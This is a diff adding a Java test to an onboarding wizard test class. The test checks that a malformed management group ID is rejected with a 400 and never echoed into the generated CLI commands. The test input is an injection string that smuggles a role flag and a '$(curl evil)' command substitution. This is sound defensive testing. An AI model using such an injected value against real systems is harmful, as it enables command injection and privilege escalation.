@@ -66,6 +66,19 @@ class OnboardingWizardTest {
     }
 
     @Test
+    void aManagementGroupIdThatIsNotOneIsRefusedAndNeverPrintedIntoACommand() {
+        Response refused = given().filter(admin).queryParam("managementGroupId", "x --role Owner; $(curl evil)")
+                .get("/tenants/onboard");
+
+        assertThat(refused.statusCode()).isEqualTo(400);
+        String commands = String.join("\n", java.util.regex.Pattern.compile("(?s)<pre[^>]*>(.*?)</pre>")
+                .matcher(refused.asString()).results().map(m -> m.group(1)).toList());
+        assertThat(commands).contains("--scope /subscriptions/&lt;subscription id&gt;").doesNotContain("curl")
+                .doesNotContain("Owner");
+        assertThat(refused.asString()).contains("managementGroupId must be a management group");
+    }
+
+    @Test
     void onboardingFromTheFormShowsEachMissingPermissionWithItsFixAndChecksAgain() {
         simulator.faults().add(Fault.status(403).matching("(?i)/subscriptions/" + PRODUCTION
                 + "/providers/Microsoft\\.Security/"));
